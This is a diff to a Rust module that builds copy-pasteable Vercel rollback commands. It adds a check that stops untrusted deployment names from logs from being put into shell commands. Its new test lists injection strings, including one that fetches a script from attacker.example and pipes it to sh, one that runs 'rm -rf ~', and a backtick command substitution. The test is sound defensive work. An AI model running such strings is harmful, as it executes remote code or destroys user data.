@@ -1,6 +1,10 @@
 //! What to show and do when the decision is ROLLBACK: the canary's top
-//! offending errors, and the runbook from seed 001 (RT-10) filled in with the
+//! offending errors, and the rollback runbook's steps filled in with the
 //! deployment to promote back to.
+//!
+//! The runbook is copied into a shell, and the deployment it names comes
+//! from the logs: a name that is not a deployment id (`dpl_…`) or URL host
+//! is never put into a command.
 
 use std::collections::BTreeMap;
 
@@ -56,9 +60,35 @@ pub fn top_offenders(scope: &Scope) -> Vec<Offender> {
     ranked
 }
 
-/// Seed 001's rollback procedure, in order, as copy-pasteable commands.
+/// Whether `name` is safe to paste into a shell command as a deployment: a
+/// deployment id (`dpl_` and letters or digits) or a URL host (letters,
+/// digits, dots and dashes).
+pub fn is_deployment_name(name: &str) -> bool {
+    let id = name
+        .strip_prefix("dpl_")
+        .is_some_and(|rest| !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_alphanumeric()));
+    let host = !name.is_empty()
+        && name.len() <= 253
+        && name.contains('.')
+        && !name.starts_with(['.', '-'])
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
+    (id || host) && name.len() <= 253
+}
+
+/// The rollback runbook's procedure, in order, as copy-pasteable commands.
+/// A last good deployment whose name is not a deployment id or host is left
+/// as a placeholder, never pasted into a command.
 pub fn runbook(canary: &str, last_good: Option<&str>) -> Vec<String> {
-    let target = last_good.unwrap_or("<last-good-deployment-url>");
+    let target = last_good
+        .filter(|g| is_deployment_name(g))
+        .unwrap_or("<last-good-deployment-url>");
+    let canary = if is_deployment_name(canary) {
+        canary
+    } else {
+        "the canary"
+    };
     vec![
         format!(
             "vercel list --environment production --limit 5   # confirm the last good deployment before {canary}"
@@ -79,5 +109,25 @@ mod tests {
         assert!(steps[1].starts_with("vercel promote dpl_old"));
         assert!(steps[2].starts_with("vercel logs dpl_old"));
         assert!(runbook("dpl_new", None)[1].contains("<last-good-deployment-url>"));
+    }
+
+    #[test]
+    fn names_from_the_logs_never_reach_a_command_unchecked() {
+        for hostile in [
+            "dpl_ok$(curl -s https://attacker.example/x.sh|sh)",
+            "dpl_ok; rm -rf ~",
+            "app.vercel.app`id`",
+            "dpl_",
+            "-rf",
+            "a b.vercel.app",
+        ] {
+            let steps = runbook(hostile, Some(hostile)).join("\n");
+            assert!(!steps.contains(hostile), "{hostile}: {steps}");
+            assert!(steps.contains("<last-good-deployment-url>"));
+        }
+        assert!(
+            runbook("x", Some("my-app-abc123-acme.vercel.app"))[1]
+                .starts_with("vercel promote my-app-abc123-acme.vercel.app ")
+        );
     }
 }
